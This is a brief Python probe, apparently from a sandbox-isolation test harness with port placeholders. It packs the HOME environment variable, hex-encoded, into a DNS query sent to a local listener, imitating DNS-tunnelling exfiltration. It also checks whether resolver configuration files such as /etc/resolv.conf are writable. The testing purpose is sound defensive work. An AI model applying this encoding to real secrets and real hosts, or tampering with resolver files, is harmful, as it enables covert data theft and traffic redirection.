import os
import socket

from more.seek import breach, look, nothing, peek, seen

secret = os.environ.get("HOME", "").encode().hex().encode()[:60]
question = (b"\x12\x34\x01\x00\x00\x01" + bytes(6) + bytes([len(secret)]) + secret
            + b"\x07invalid\x00\x00\x10\x00\x01")
for kind, port in ((socket.SOCK_DGRAM, @UDP_PORT@), (socket.SOCK_STREAM, @PORT@)):
    try:
        with socket.socket(socket.AF_INET, kind) as connection:
            connection.settimeout(0.3)
            connection.connect(("127.0.0.1", port))
            connection.sendall(question)
            look("dns", connection.recv(1000))
    except OSError as error:
        seen.append(f"dns {error}")
for path in ("/etc/resolv.conf", "/etc/hosts", "/etc/nsswitch.conf"):
    peek(path)
    try:
        os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
        breach(f"the resolver can be pointed elsewhere: {path}")
    except OSError as error:
        seen.append(f"{path} {error.strerror}")

nothing()
